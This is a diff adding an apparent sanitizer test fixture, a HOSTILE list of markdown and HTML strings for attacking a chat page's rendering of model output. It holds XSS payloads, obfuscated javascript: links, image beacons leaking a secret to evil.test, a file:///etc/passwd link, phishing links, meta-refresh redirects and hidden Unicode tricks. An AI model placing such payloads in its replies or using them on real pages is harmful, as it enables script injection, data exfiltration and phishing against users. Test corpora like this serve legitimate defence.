@@ -1,0 +1,26 @@
+/* Model output that tries to get out: each piece has been used against a real chat page. */
+
+export const HOSTILE = [
+  "<script>alert(1)</script> <img src=https://evil.test/a.png onerror=alert(2)>",
+  "![pixel](https://evil.test/p.png?secret=1) ![ref][p] [p]: https://evil.test/r.png",
+  "[p]: https://evil.test/ref.png 'title'\n\n![leak][p] and [text][p]",
+  "[click](javascript:alert(3)) [click](JaVaScRiPt:alert(4)) [x](java\tscript:alert(5))",
+  "[x](java&#115;cript:alert(6)) [x](&#x6A;avascript:alert(7)) [x](javascript&colon;alert(8))",
+  "[x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x) [x](file:///etc/passwd)",
+  "[x](//evil.test/a) [x](/v1/runs) [x](#t=aaaaaaaaaaaa) [x](\\\\evil.test\\a)",
+  "<javascript:alert(9)> <https://evil.test/auto> https://evil.test/bare www.evil.test",
+  "[https://bank.test](https://evil.test/phish) [x](https://user:pw@evil.test/)",
+  "<svg><animate onbegin=alert(10) attributeName=x></svg><iframe src=https://evil.test>",
+  "<style>@import 'https://evil.test/s.css'</style><link rel=stylesheet href=https://evil.test/x.css>",
+  "![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](data:text/html,x)",
+  "$\\href{javascript:alert(11)}{x}$ $$\\includegraphics{https://evil.test/m.png}$$ \\(\\url{https://evil.test}\\)",
+  "```html\n<script>alert(12)</script>\n```\n~~~\n</code></pre><script>alert(13)</script>",
+  "| a | ![i](https://evil.test/t.png) |\n|---|:-:|\n| <b onclick=alert(14)> | [x](javascript:1) |",
+  "- [ ] <input autofocus onfocus=alert(15)>\n- [x] ![x](https://evil.test/l.png)",
+  "> ".repeat(60) + "deep\n\n" + "- ".repeat(60) + "deep\n",
+  "[a]".repeat(40) + "(" + "(".repeat(40) + "*".repeat(80) + "_".repeat(80) + "`".repeat(40),
+  "&lt;script&gt;alert(16)&lt;/script&gt; &#60;img src=x onerror=alert(17)&#62; &#0; &#x110000;",
+  "<base href=https://evil.test/><form action=https://evil.test><button>x</button></form>",
+  "<meta http-equiv=refresh content='0;url=https://evil.test'><object data=https://evil.test>",
+  "\u202egnp.exe\u202c \u200bhidden\u2066 \u{e0041}\u{e0042}",
+].join("\n\n");
